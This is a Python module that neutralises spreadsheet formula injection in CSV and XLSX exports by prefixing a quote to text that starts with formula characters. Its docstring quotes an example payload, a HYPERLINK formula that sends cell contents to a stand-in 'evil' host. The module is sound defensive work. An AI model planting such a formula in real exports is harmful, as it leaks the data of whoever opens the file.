"""Text written to a spreadsheet (CSV or XLSX) is data, never a formula.

A monitoring period labelled ``=HYPERLINK("http://evil/?"&A1, "Open")`` reached the SME's
template and ran when opened in Excel. Every export goes through :func:`cell` (or the frame and
writer helpers): text starting with ``=``, ``+``, ``-``, ``@``, tab or CR gets a leading ``'``,
which spreadsheets show as text (OWASP's CSV injection advice). Numbers are left alone.
"""
from __future__ import annotations

import csv
from typing import Any, Iterable, TextIO

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """``value`` as a spreadsheet will read it safely: text that could start a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def frame(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``table`` with every text cell (and column name) passed through :func:`cell`."""
    safe = table.map(cell)
    safe.columns = [cell(c) for c in table.columns]
    return safe


class Writer:
    """``csv.writer`` whose rows go through :func:`cell`."""

    def __init__(self, out: TextIO, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([cell(v) for v in row])
